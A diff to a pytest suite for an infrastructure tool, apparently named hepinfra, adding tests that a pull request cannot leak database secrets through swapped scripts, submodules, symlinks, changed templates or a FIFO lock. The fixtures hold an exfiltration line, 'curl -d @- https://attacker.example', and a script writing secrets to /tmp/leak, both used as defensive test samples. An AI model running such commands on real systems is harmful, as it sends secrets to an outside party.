@@ -20,7 +20,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tests.cliutil import invoke
+from tests.cliutil import invoke, write_project
 from tests.conftest import ENV, KEY, Server
 
 SENTINEL = "hepgg_db_" + "5e" * 16  # a CI secret a pull request wants: never sent anywhere
@@ -422,7 +422,9 @@ def test_the_review_sees_changes_made_through_vars_and_the_environments_filter(s
         "  analytics:\n    environments: [staging]\n    outputs:\n"
         '      - exec: [./publish.sh]\n        keys: {URL: "{{ db.connection_string }}"}\n'
     )
-    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base, "store.sh": "#!/bin/sh\n", "publish.sh": "#!/bin/sh\n"})
+    manifest = repo_with(
+        tmp_path / "r", {"hepinfra.yaml": base, "store.sh": "#!/bin/sh\n", "publish.sh": "#!/bin/sh\n"}
+    )
     (manifest.parent / "evil.sh").write_text("#!/bin/sh\ncat > /tmp/leak\n")
     manifest.write_text(base.replace("tool: ./store.sh, prefix: prod/app", "tool: ./evil.sh, prefix: public/leak")
                         .replace("environments: [staging]", "environments: [staging, prod]"))  # fmt: skip
@@ -431,5 +433,96 @@ def test_the_review_sees_changes_made_through_vars_and_the_environments_filter(s
     assert ("environments.prod.vars", 'set {"prefix": "public/leak", "tool": "./evil.sh"} (names, paths and argv '
             "render from them)") in review  # fmt: skip
     assert ("databases.analytics", 'environments: ["staging"] -> ["prod", "staging"]') in review or (
-        "databases.analytics", 'environments: ["staging"] -> ["staging", "prod"]') in review
+        "databases.analytics",
+        'environments: ["staging"] -> ["staging", "prod"]',
+    ) in review
     assert ('program "./evil.sh"', "new file evil.sh: runs at apply") in review
+
+
+def test_a_submodule_where_the_manifest_was_cannot_be_the_base(
+    server: Server, catcher: Catcher, tmp_path: Path
+) -> None:
+    evil_repo = tmp_path / "evil"
+    repo_with(evil_repo, {"hepinfra.yaml": f'version: 1\nhepgg: {{url: "{catcher.url}"}}\n'
+                          "environments: {prod: {db_key_env: ATTACK_VAR}}\ndatabases: {shop: {engine: postgres}}\n"})  # fmt: skip
+    git(evil_repo, "update-ref", "refs/remotes/origin/main", "HEAD")
+    manifest = repo_with(tmp_path / "r", {"infra/hepinfra.yaml": base_manifest(server.url)}, "infra/hepinfra.yaml")
+    git(manifest.parent.parent, "rm", "-q", "-r", "infra")
+    git(manifest.parent.parent, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(evil_repo), "infra")
+    for ref in ("main", "origin/main"):
+        result = plan(manifest, "--base", ref)
+        assert result.code == 1 and catcher.requests == [] and SENTINEL not in result.out + result.err
+        assert "is a Git submodule of" in result.err and result.err.count("\n") == 1
+
+
+def test_the_review_sees_files_the_outputs_read_links_and_every_new_output(server: Server, tmp_path: Path) -> None:
+    files = {
+        "hepinfra.yaml": base_manifest(
+            server.url,
+            '      - template: page.j2\n        path: "out/{{ env }}/page"\n'
+            '      - exec: [sh, scripts/push.sh]\n        keys: {U: "{{ db.user }}"}\n',
+        ),
+        "page.j2": "user {{ db.user }}\n",
+        "scripts/push.sh": "cat > /dev/null\n",
+        "scripts/publish.sh": "curl -d @- https://attacker.example\n",
+    }
+    manifest = repo_with(tmp_path / "r", files)
+    (manifest.parent / "page.j2").write_text("user {{ db.user }} # {{ db.password }}\n")
+    (manifest.parent / "scripts/push.sh").unlink()
+    (manifest.parent / "scripts/push.sh").symlink_to("publish.sh")
+    manifest.write_text(
+        manifest.read_text() + '      - dotenv: "out/{{ env }}/other.env"\n        keys: {PW2: "{{ db.password }}"}\n'
+    )
+    review = {
+        (i["where"], i["what"]) for i in plan(manifest, "--base", "main", "--no-refresh", "--json").json()["review"]
+    }
+    assert ('file "page.j2"', "page.j2 changed since main: what is rendered or published changes") in review
+    assert ('program "scripts/push.sh"',
+            "scripts/push.sh is a symbolic link to publish.sh (new or changed): runs at apply") in review  # fmt: skip
+    assert any(w == "databases.shop" and "dotenv output (new or changed)" in t and "PW2" in t for w, t in review)
+
+
+def test_a_new_age_recipient_in_the_recipients_file_is_reviewed(server: Server, tmp_path: Path) -> None:
+    import pyrage  # the test extras install it (hepinfra[age])
+
+    one, two = (str(pyrage.x25519.Identity.generate().to_public()) for _ in range(2))
+    files = {
+        "hepinfra.yaml": base_manifest(
+            server.url,
+            '      - age: "out/{{ env }}/s.age"\n        recipients_file: r.txt\n'
+            '        keys: {P: "{{ db.password }}"}\n',
+        ),
+        "r.txt": one + "\n",
+    }
+    manifest = repo_with(tmp_path / "r", files)
+    (manifest.parent / "r.txt").write_text(f"{one}\n{two}\n")
+    review = {
+        (i["where"], i["what"]) for i in plan(manifest, "--base", "main", "--no-refresh", "--json").json()["review"]
+    }
+    assert ('file "r.txt"', "r.txt changed since main: what is rendered or published changes") in review
+
+
+@pytest.mark.parametrize("name", ["credentials.json", "credentials.tmp", "hepgg.sqlite3", "state.key", "state.tmp"])
+def test_a_committed_link_in_the_local_sandbox_is_never_followed(name: str, tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    victim.chmod(0o644)
+    project = write_project(tmp_path / "p", "version: 1\nhepgg: {url: local}\nenvironments: {dev: {}}\n"
+                            "databases: {shop: {engine: postgres}}\n")  # fmt: skip
+    local = project.parent / ".hepinfra/local"
+    local.mkdir(parents=True)
+    (local / name).symlink_to(victim)
+    result = invoke(["plan", "-f", str(project)])
+    assert result.code == 1 and "is a symbolic link; hepinfra's own files are never used through one" in result.err
+    assert victim.read_text() == "precious\n" and victim.stat().st_mode & 0o777 == 0o644
+
+
+def test_a_fifo_as_the_lock_does_not_hang_apply(server: Server, tmp_path: Path) -> None:
+    import os
+
+    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
+    state = manifest.parent / ".hepinfra/state"
+    state.mkdir(parents=True)
+    os.mkfifo(state / "prod.lock")
+    result = invoke(["apply", "-f", str(manifest), "--auto-approve", "--lock-timeout", "1s"], env=ENV)
+    assert result.code == 1 and result.err.count("\n") == 1, result.err
